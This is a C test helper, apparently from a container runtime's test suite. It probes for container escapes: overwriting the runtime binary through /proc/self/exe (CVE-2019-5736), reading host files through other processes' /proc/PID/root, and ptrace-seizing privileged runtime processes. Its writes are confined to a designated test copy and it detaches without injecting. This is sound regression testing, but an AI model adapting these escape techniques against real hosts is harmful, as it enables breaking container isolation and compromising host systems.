/* cve-attacker: a static program run inside test containers that tries to overwrite the runtime binary (CVE-2019-5736). */
/*
 * It only ever writes to one file: the one whose st_dev:st_ino the test passes as TARGET (a copy of
 * the runtime in the test's temp dir). Any other file it manages to open for writing is reported,
 * never written. Results go to RESULT as key=value lines, for the bats test to read:
 *
 *   cve-attacker reopen FD TARGET SECONDS RESULT
 *     FD is an O_PATH fd on some process's exe, inherited across execve (the payload library opens
 *     it in a runtime that was tricked into running inside the container). Reopen /proc/self/fd/FD
 *     for writing until ETXTBSY clears or SECONDS pass, as the original exploit did once the
 *     runtime had exited.  ->  write=ok|<ERRNO>|other, overwritten=0|1
 *
 *   cve-attacker exe-scan TARGET NAME SECONDS RESULT
 *     For SECONDS, scan /proc for processes whose exe is the runtime (TARGET, or a view of it named
 *     NAME: an overlayfs path /NAME or a memfd), hold an O_PATH fd on each, and keep reopening them
 *     for writing.  ->  seen=N (runtime exes opened), denied=N (exe links refused: non-dumpable),
 *     write=<first result>, overwritten=0|1
 *
 *   cve-attacker root-scan PATH SECONDS RESULT
 *     For SECONDS, keep trying every other process's /proc/PID/root + PATH (PATH a host file the test
 *     made): a runtime process that is already in the container's pid namespace but not yet in its
 *     mount namespace and root shows the host's filesystem there (CVE-2016-9962's class). Only read.
 *     ->  pids=N (processes seen), opened=N (root links opened), escaped=0|1, read=<first line>
 *
 *   cve-attacker ptrace-scan SECONDS RESULT
 *     For SECONDS, PTRACE_SEIZE every new process of the pid namespace, stop it (PTRACE_INTERRUPT) and,
 *     while it is held, read its effective capabilities: a runtime process seized while it still holds
 *     capabilities this process lacks is one whose syscalls a tracer could inject with them (open_by_handle_at
 *     reaches any file of a host filesystem). Detached at once, never injected into.
 *     ->  seized=N (processes held), privileged=N (held with a capability we lack), first=<pid comm CapEff>
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MARK "CVE-2019-5736 was here"
#define MAX_HELD 256

static dev_t target_dev;
static ino_t target_ino;

static int parse_target(const char *s)
{
        unsigned long long dev, ino;
        if (sscanf(s, "%llu:%llu", &dev, &ino) != 2)
                return -1;
        target_dev = (dev_t)dev;
        target_ino = (ino_t)ino;
        return 0;
}

static double now(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char *errno_name(int e)
{
        const char *name = strerrorname_np(e);
        return name ? name : "EUNKNOWN";
}

/* One attempt to open the file behind an O_PATH fd for writing; writes the mark only into TARGET.
 * Returns 1 when overwritten, 0 when the open was refused or the file is another one, -1 on ETXTBSY. */
static int try_write(int opath, char *result, size_t size)
{
        char link[64];
        snprintf(link, sizeof(link), "/proc/self/fd/%d", opath);
        int fd = open(link, O_WRONLY | O_CLOEXEC);
        if (fd < 0) {
                if (errno == ETXTBSY)
                        return -1;
                snprintf(result, size, "%s", errno_name(errno));
                return 0;
        }
        struct stat st;
        if (fstat(fd, &st) < 0 || st.st_dev != target_dev || st.st_ino != target_ino) {
                /* A private copy (a memfd the runtime made): writable or not, not the host's binary. */
                snprintf(result, size, "other");
                close(fd);
                return 0;
        }
        ssize_t n = pwrite(fd, MARK, strlen(MARK), 0);
        close(fd);
        snprintf(result, size, "%s", n == (ssize_t)strlen(MARK) ? "ok" : errno_name(errno));
        return n == (ssize_t)strlen(MARK) ? 1 : 0;
}

static int write_result(const char *path, const char *text)
{
        FILE *f = fopen(path, "we");
        if (!f || fputs(text, f) < 0 || fclose(f) != 0) {
                perror(path);
                return 1;
        }
        return 0;
}

static int cmd_reopen(char **argv)
{
        int opath = atoi(argv[0]);
        if (parse_target(argv[1]) < 0)
                return 2;
        double deadline = now() + atof(argv[2]);
        char result[64] = "ETXTBSY";
        int overwritten = 0;
        while (now() < deadline) {
                int r = try_write(opath, result, sizeof(result));
                if (r >= 0) {
                        overwritten = r;
                        break;
                }
                usleep(5000);
        }
        char text[256];
        snprintf(text, sizeof(text), "write=%s\noverwritten=%d\n", result, overwritten);
        return write_result(argv[3], text);
}

struct held {
        int fd;
        pid_t pid;
        bool done;
};

/* Whether an exe link names the runtime: the file itself, its overlayfs view (/NAME) or a memfd copy. */
static bool is_runtime(int opath, const char *link_target, const char *name)
{
        struct stat st;
        if (fstat(opath, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino)
                return true;
        if (strncmp(link_target, "/memfd:", 7) == 0)
                return true;
        const char *base = strrchr(link_target, '/');
        return base && strcmp(base + 1, name) == 0;
}

static int cmd_exe_scan(char **argv)
{
        if (parse_target(argv[0]) < 0)
                return 2;
        const char *name = argv[1];
        double deadline = now() + atof(argv[2]);
        struct held held[MAX_HELD];
        size_t nheld = 0;
        int seen = 0, denied = 0, overwritten = 0;
        char result[64] = "none";
        bool have_result = false;
        pid_t self = getpid();

        while (now() < deadline && !overwritten) {
                DIR *proc = opendir("/proc");
                if (!proc)
                        return 1;
                struct dirent *e;
                while ((e = readdir(proc))) {
                        pid_t pid = (pid_t)atoi(e->d_name);
                        if (pid <= 0 || pid == self)
                                continue;
                        bool known = false;
                        for (size_t i = 0; i < nheld; i++)
                                known |= held[i].pid == pid;
                        if (known)
                                continue;
                        char path[64], target[4096];
                        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
                        int fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0) {
                                if (errno == EACCES || errno == EPERM)
                                        denied++;
                                continue;
                        }
                        ssize_t len = readlink(path, target, sizeof(target) - 1);
                        target[len > 0 ? len : 0] = '\0';
                        if (!is_runtime(fd, target, name) || nheld == MAX_HELD) {
                                close(fd);
                                continue;
                        }
                        seen++;
                        held[nheld++] = (struct held){.fd = fd, .pid = pid};
                }
                closedir(proc);
                for (size_t i = 0; i < nheld && !overwritten; i++) {
                        if (held[i].done)
                                continue;
                        char r[64];
                        int w = try_write(held[i].fd, r, sizeof(r));
                        if (w < 0)
                                continue;
                        held[i].done = true;
                        overwritten = w;
                        if (!have_result || w) {
                                snprintf(result, sizeof(result), "%s", r);
                                have_result = true;
                        }
                }
        }
        char text[256];
        snprintf(text, sizeof(text), "seen=%d\ndenied=%d\nwrite=%s\noverwritten=%d\n", seen, denied, result,
                 overwritten);
        return write_result(argv[3], text);
}

static int cmd_root_scan(char **argv)
{
        const char *want = argv[0];
        double deadline = now() + atof(argv[1]);
        pid_t self = getpid(), last = 0;
        int pids = 0, opened = 0, escaped = 0;
        char line[256] = "";
        while (now() < deadline && !escaped) {
                DIR *proc = opendir("/proc");
                if (!proc)
                        return 1;
                struct dirent *e;
                while ((e = readdir(proc)) && !escaped) {
                        pid_t pid = (pid_t)atoi(e->d_name);
                        if (pid <= 0 || pid == self)
                                continue;
                        if (pid > last) {
                                pids++;
                                last = pid;
                        }
                        char path[64];
                        snprintf(path, sizeof(path), "/proc/%d/root", pid);
                        int root = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
                        if (root < 0)
                                continue;
                        opened++;
                        int fd = openat(root, want[0] == '/' ? want + 1 : want, O_RDONLY | O_CLOEXEC);
                        close(root);
                        if (fd < 0)
                                continue;
                        ssize_t n = read(fd, line, sizeof(line) - 1);
                        close(fd);
                        line[n > 0 ? n : 0] = '\0';
                        line[strcspn(line, "\n")] = '\0';
                        escaped = 1;
                }
                closedir(proc);
        }
        char text[512];
        snprintf(text, sizeof(text), "pids=%d\nopened=%d\nescaped=%d\nread=%s\n", pids, opened, escaped, line);
        return write_result(argv[2], text);
}

/* The CapEff line of /proc/PID/status (0 if unreadable), and the process's name into comm. */
static unsigned long long cap_eff(pid_t pid, char *comm, size_t size)
{
        char path[64], line[256];
        snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
        FILE *f = fopen(path, "re");
        unsigned long long caps = 0;
        if (!f)
                return 0;
        while (fgets(line, sizeof(line), f)) {
                if (strncmp(line, "Name:", 5) == 0)
                        snprintf(comm, size, "%.*s", (int)strcspn(line + 6, "\n"), line + 6);
                sscanf(line, "CapEff: %llx", &caps);
        }
        fclose(f);
        return caps;
}

/* Hold pid stopped for a moment: true when it was seized and stopped (then detached). */
static bool seize_and_stop(pid_t pid)
{
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                return false;
        bool stopped = false;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
                for (int i = 0; i < 200 && !stopped; i++) {
                        int status;
                        pid_t w = waitpid(pid, &status, __WALL | WNOHANG);
                        if (w == pid && WIFSTOPPED(status))
                                stopped = true;
                        else if (w == pid || w < 0)
                                break;
                        else
                                usleep(500);
                }
        return stopped;
}

static int cmd_ptrace_scan(char **argv)
{
        double deadline = now() + atof(argv[0]);
        pid_t self = getpid(), last = 0;
        char ignored[64];
        unsigned long long own = cap_eff(self, ignored, sizeof(ignored));
        int seized = 0, privileged = 0;
        char first[160] = "";
        while (now() < deadline) {
                DIR *proc = opendir("/proc");
                if (!proc)
                        return 1;
                struct dirent *e;
                while ((e = readdir(proc))) {
                        pid_t pid = (pid_t)atoi(e->d_name);
                        /* Pids grow: each new process is tried once, as soon as it shows. */
                        if (pid <= last || pid == self)
                                continue;
                        last = pid;
                        if (!seize_and_stop(pid))
                                continue;
                        char comm[64] = "?";
                        unsigned long long caps = cap_eff(pid, comm, sizeof(comm));
                        ptrace(PTRACE_DETACH, pid, 0, 0);
                        seized++;
                        if (caps & ~own) {
                                if (!privileged++)
                                        snprintf(first, sizeof(first), "%d %s %llx", (int)pid, comm, caps);
                        }
                }
                closedir(proc);
        }
        char text[256];
        snprintf(text, sizeof(text), "seized=%d\nprivileged=%d\nfirst=%s\n", seized, privileged, first);
        return write_result(argv[1], text);
}

int main(int argc, char **argv)
{
        if (argc == 6 && strcmp(argv[1], "reopen") == 0)
                return cmd_reopen(argv + 2);
        if (argc == 6 && strcmp(argv[1], "exe-scan") == 0)
                return cmd_exe_scan(argv + 2);
        if (argc == 5 && strcmp(argv[1], "root-scan") == 0)
                return cmd_root_scan(argv + 2);
        if (argc == 4 && strcmp(argv[1], "ptrace-scan") == 0)
                return cmd_ptrace_scan(argv + 2);
        fprintf(stderr, "usage: cve-attacker reopen FD DEV:INO SECONDS RESULT\n"
                        "       cve-attacker exe-scan DEV:INO NAME SECONDS RESULT\n"
                        "       cve-attacker root-scan PATH SECONDS RESULT\n"
                        "       cve-attacker ptrace-scan SECONDS RESULT\n");
        return 2;
}
